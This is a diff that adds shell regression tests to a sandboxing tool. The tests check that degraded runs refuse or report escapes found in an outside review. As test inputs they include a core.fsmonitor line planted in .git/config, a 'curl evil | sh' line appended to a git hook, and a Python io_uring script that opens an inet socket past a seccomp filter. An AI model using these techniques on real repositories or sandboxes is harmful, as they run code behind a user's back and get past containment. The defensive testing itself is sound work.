@@ -169,6 +169,131 @@ test_hosts_degraded_refusals_said_exactly() {
 	t_assert
 }
 
+# Protected paths (.git/config, .git/hooks, ...) are read-only binds in the
+# whole boundary; Landlock grants a writable path whole, so a degraded run
+# can write them (a core.fsmonitor in .git/config runs at the user's next
+# `git status`). Not held, so never unseen: each change is a denial and
+# containment is "violations", not "weaker" (outside review attack11b: the
+# report said weaker for both changes below).
+test_hosts_degraded_protected_paths_said() {
+	need_restrict || return
+	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
+	chmod 755 "$T_TMP"
+	mkdir -p "$T_TMP/ws-prot/.git/hooks"
+	printf '[core]\n' >"$T_TMP/ws-prot/.git/config"
+	echo '#!/bin/sh' >"$T_TMP/ws-prot/.git/hooks/pre-commit"
+	cd "$T_TMP/ws-prot" || return
+	degraded_run self --allow-weaker namespaces -- /bin/sh -c '
+		printf "\tfsmonitor = touch /tmp/pwned\n" >>.git/config
+		echo "curl evil | sh" >>.git/hooks/pre-commit
+		echo fine >notes.txt; echo done'
+	expect_eq "$RC:$OUT" "0:done" "it runs ($ERR)"
+	expect_eq "$(field .verdicts.containment)" violations "the report says violations, not weaker"
+	local d
+	d=$(field '[.denials[] | select(.kind == "file") | .target] | join(" ")')
+	expect_match "$d" "$T_TMP/ws-prot/.git/config" "the change to .git/config is a denial"
+	expect_match "$d" "$T_TMP/ws-prot/.git/hooks/pre-commit" "the change to the hook is a denial"
+	expect_nomatch "$d" "notes.txt" "an ordinary file is not"
+	# on_violation kill cannot act during a degraded run: said.
+	printf '{"on_violation": "kill"}\n' >"$T_TMP/kill.json"
+	degraded_run self --allow-weaker namespaces --policy "$T_TMP/kill.json" -- /bin/true
+	expect_match "$(field '.enforcement.degraded | join("\n")')" '^on_violation kill: no denial is seen while the run goes on' "on_violation kill: the report says it cannot act ($ERR)"
+	t_assert
+}
+
+# No seccomp (a kernel without it; allow_weaker "seccomp" accepted that):
+# only seccomp keeps a degraded run in its process group and refuses its
+# sockets, and the report said it did. Refused whatever allow_weaker says
+# (outside review attack11b: the run went on, setsid and a UDP socket got
+# through, and a process it left in a session of its own outlived it).
+test_hosts_degraded_needs_seccomp() {
+	need_restrict || return
+	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
+	local tag=$((7000000 + RANDOM))
+	chmod 755 "$T_TMP"
+	mkdir -p "$T_TMP/ws-nosec"
+	cd "$T_TMP/ws-nosec" || return
+	ERR=$("$RESTRICT" noseccomp "$CORDON" run --ro "$BUILD" --allow-weaker namespaces,seccomp -- /bin/sh -c "
+		setsid sh -c 'sleep $tag' >/dev/null 2>&1 </dev/null &
+		python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)' 2>/dev/null && echo udp-socket
+		sleep 1; echo ran" 2>&1)
+	RC=$?
+	local left
+	left=$(pgrep -f "sleep $tag")
+	[ -n "$left" ] && kill -9 $left
+	expect_eq "$left" "" "no process of the run outlives it"
+	expect_nomatch "$ERR" "udp-socket" "no UDP socket"
+	expect_match "$RC:$ERR" "^125:cordon: setup-error: user namespaces: .*, and seccomp is not available on this kernel: .*refused whatever enforcement.allow_weaker says" "refused, said why ($ERR)"
+	local v
+	v=$("$RESTRICT" noseccomp "$CORDON" explain --allow-weaker namespaces,seccomp -- /bin/true 2>&1 | sed -n 's/^verdict: //p')
+	expect_eq "cordon: $v" "$ERR" "explain says it in the same words"
+	t_assert
+}
+
+# io_uring allowed by the policy (syscalls.allow): IORING_OP_SOCKET makes
+# an inet socket past the seccomp rule on socket(), the degraded run's only
+# network bound, while its report said every family but unix was refused
+# (outside review attack11b: a UDP datagram went out). Refused.
+test_hosts_degraded_refuses_io_uring() {
+	need_restrict || return
+	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
+	chmod 755 "$T_TMP"
+	mkdir -p "$T_TMP/ws-ring"
+	cd "$T_TMP/ws-ring" || return
+	cat >"$T_TMP/ring.py" <<'PY'
+import ctypes, mmap, struct, sys, socket
+libc = ctypes.CDLL(None, use_errno=True)
+p = ctypes.create_string_buffer(120)
+fd = libc.syscall(425, 4, p)  # io_uring_setup
+if fd < 0:
+    sys.exit("io_uring_setup refused")
+sqn, cqn = struct.unpack_from("II", p.raw, 0)
+sq = struct.unpack_from("IIIIIIIIQ", p.raw, 40)
+cq = struct.unpack_from("IIIIIIIIQ", p.raw, 80)
+ring = mmap.mmap(fd, max(sq[6] + sqn * 4, cq[5] + cqn * 16), offset=0)
+sqes = mmap.mmap(fd, sqn * 64, offset=0x10000000)
+sqe = bytearray(64)  # IORING_OP_SOCKET (45): AF_INET, SOCK_DGRAM
+struct.pack_into("BBHiQQIIQ", sqe, 0, 45, 0, 0, socket.AF_INET, socket.SOCK_DGRAM, 0, 0, 0, 7)
+sqes[0:64] = bytes(sqe)
+struct.pack_into("I", ring, sq[6], 0)
+struct.pack_into("I", ring, sq[1], struct.unpack_from("I", ring, sq[1])[0] + 1)
+libc.syscall(426, fd, 1, 1, 1, None, 0)  # io_uring_enter, GETEVENTS
+res = struct.unpack_from("QiI", ring, cq[5])[1]
+if res >= 0:
+    print("inet-socket")
+PY
+	chmod 644 "$T_TMP/ring.py"
+	printf '{"syscalls": {"allow": ["io_uring_setup", "io_uring_enter"]}}\n' >"$T_TMP/ring.json"
+	degraded_run self --allow-weaker namespaces --policy "$T_TMP/ring.json" --ro "$T_TMP/ring.py" -- python3 "$T_TMP/ring.py"
+	expect_nomatch "$OUT" inet-socket "no inet socket through io_uring"
+	expect_match "$RC:$ERR" "^125:cordon: setup-error: user namespaces: .*syscalls.allow io_uring_setup: io_uring makes sockets past the seccomp rule" "refused, said why"
+	t_assert
+}
+
+# As root the workspace's files are handed to the run's uid for the run. A
+# file with another name outside the workspace (a hard link: `git clone
+# --local` links its objects) was handed over too, and the run chmodded
+# and rewrote the file outside its grants (outside review attack11b). It
+# stays its owner's; the run can only replace the name it has.
+test_hosts_degraded_hand_over_keeps_linked_files() {
+	need_restrict || return
+	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
+	[ "$(id -u)" = 0 ] || { t_skip "not root: nothing is handed over"; return; }
+	chmod 755 "$T_TMP"
+	mkdir -p "$T_TMP/ws-link" "$T_TMP/elsewhere"
+	echo original >"$T_TMP/elsewhere/pack"
+	chmod 444 "$T_TMP/elsewhere/pack"
+	ln "$T_TMP/elsewhere/pack" "$T_TMP/ws-link/pack"
+	cd "$T_TMP/ws-link" || return
+	degraded_run root --allow-weaker namespaces -- /bin/sh -c '
+		{ chmod 644 pack && echo tampered >pack; } 2>/dev/null
+		rm -f pack && echo mine >pack; echo done'
+	expect_eq "$RC:$OUT" "0:done" "it runs, and replaces its own name ($ERR)"
+	expect_eq "$(cat "$T_TMP/elsewhere/pack"):$(stat -c %u:%a "$T_TMP/elsewhere/pack")" "original:0:444" "the file's other name, outside the grants, is untouched"
+	expect_eq "$(cat pack):$(stat -c %u pack)" "mine:0" "the run's new file is given back"
+	t_assert
+}
+
 # Endpoints with allow_weaker "network" too: the host's network, unbounded
 # and said so; no proxy variables (they would send requests to whatever
 # listens on that port of the host); datagram sockets still refused.
